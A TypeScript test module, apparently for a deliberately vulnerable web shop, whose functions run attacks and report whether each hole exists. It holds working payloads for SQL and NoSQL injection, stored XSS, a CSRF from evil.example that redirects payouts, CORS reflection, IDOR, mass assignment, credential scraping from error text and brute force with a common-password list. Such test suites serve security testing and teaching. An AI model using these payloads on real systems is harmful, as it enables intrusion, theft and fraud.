/** What an attack may use. */
export interface Target {
  fetch: (path: string, init?: RequestInit) => Promise<Response>
  me: { email: string; cookie: string; orderId: number }
  victim: Victim
}

export interface Victim {
  email: string
  visit: (path: string) => Promise<Response>
  submitFrom: (origin: string, path: string, fields: Record<string, string>) => Promise<void>
  fetchFrom: (
    origin: string,
    path: string,
    request?: { method?: string; headers?: Record<string, string>; body?: string },
  ) => Promise<Response>
}

const EVIL = 'https://evil.example'

/** The quote ends the text, UNION adds rows of another table, and the dashes hide the rest of the statement. */
export async function sqlInjection({ fetch }: Target): Promise<string | null> {
  const q = "zzz' UNION SELECT 0, api_key, 0 FROM vendor_keys --"
  const { data } = await read<{ data?: { title: string }[] }>(await fetch(`/products?q=${encodeURIComponent(q)}`))
  return data?.[0]?.title ?? null
}

/** An operator where a text was meant: every code is unequal to the empty one. */
export async function nosqlInjection({ fetch, me }: Target): Promise<string | null> {
  const answer = await fetch('/pickups', json('POST', { order: me.orderId - 1, code: { $ne: '' } }))
  return (await read<{ data?: { note: string } }>(answer)).data?.note ?? null
}

/** The hole is there when the element comes back as an element. As text it has a reference in the place of `<`. */
export async function storedXss({ fetch, me }: Target): Promise<string | null> {
  const path = '/products/7'
  const script = '<script>steal()</script>'
  await fetch(`${path}/reviews`, json('POST', { text: script }, { cookie: me.cookie }))
  return (await (await fetch(path)).text()).includes(script) ? path : null
}

/** A form needs nobody's leave to be sent. Whether it did anything, the victim's account says afterwards. */
export async function csrf({ victim }: Target): Promise<string | null> {
  const iban = 'XX00 EVIL'
  await victim.submitFrom(EVIL, '/account/payout', { iban })
  const { data } = await read<Account>(await victim.visit('/account'))
  return data.iban === iban ? iban : null
}

export async function corsReflection({ victim }: Target): Promise<string | null> {
  try {
    return (await read<Account>(await victim.fetchFrom(EVIL, '/account'))).data.iban
  } catch {
    return null // The browser keeps the answer from the script.
  }
}

export async function idor({ fetch, me }: Target): Promise<string | null> {
  const answer = await fetch(`/orders/${me.orderId - 1}`, { headers: { cookie: me.cookie } })
  return (await read<{ data?: { note: string } }>(answer)).data?.note ?? null
}

/** A 204 proves nothing, since the field may have been left out: the account is read again. */
export async function massAssignment({ fetch, me }: Target): Promise<string | null> {
  await fetch('/account', json('PATCH', { role: 'staff' }, { cookie: me.cookie }))
  const { data } = await read<Account>(await fetch('/account', { headers: { cookie: me.cookie } }))
  return data.role === 'staff' ? data.role : null
}

export async function verboseErrors({ fetch }: Target): Promise<string | null> {
  const text = await (await fetch('/products/1/stock')).text()
  return /http:\/\/market:([^@]+)@/.exec(text)?.[1] ?? null
}

export async function missingHeaders({ fetch }: Target): Promise<string[] | null> {
  const { headers } = await fetch('/products/1')
  const missing = WATCHED_HEADERS.filter((name) => !headers.has(name))
  return missing.length > 0 ? missing : null
}

export async function bruteForce({ fetch, victim }: Target): Promise<string | null> {
  for (const password of COMMON_PASSWORDS) {
    const { status } = await fetch('/login', json('POST', { email: victim.email, password }))
    if (status === 200) return password
  }
  return null
}

const MEGABYTE = 1_000_000

export async function bigUpload({ fetch, me }: Target): Promise<number | null> {
  const headers = { 'content-type': 'text/csv', cookie: me.cookie }
  const answer = await fetch('/imports', { method: 'POST', headers, body: 'x'.repeat(MEGABYTE) })
  const { data } = await read<{ data?: { bytes: number } }>(answer)
  return data?.bytes === MEGABYTE ? MEGABYTE : null
}

function json(method: string, body: unknown, headers: Record<string, string> = {}): RequestInit {
  return { method, headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify(body) }
}

/** The JSON of an answer. Each attack says what it expects there. */
async function read<T>(response: Response): Promise<T> {
  return (await response.json()) as T
}

interface Account {
  data: { iban: string; role: string }
}

export const WATCHED_HEADERS = [
  'content-security-policy',
  'strict-transport-security',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
]

export const COMMON_PASSWORDS = [
  ...['123456', 'password', 'qwerty', 'letmein', 'dragon', 'monkey'],
  ...['sunshine', 'princess', 'superman', 'hunter2', 'trustno1', 'secret'],
]
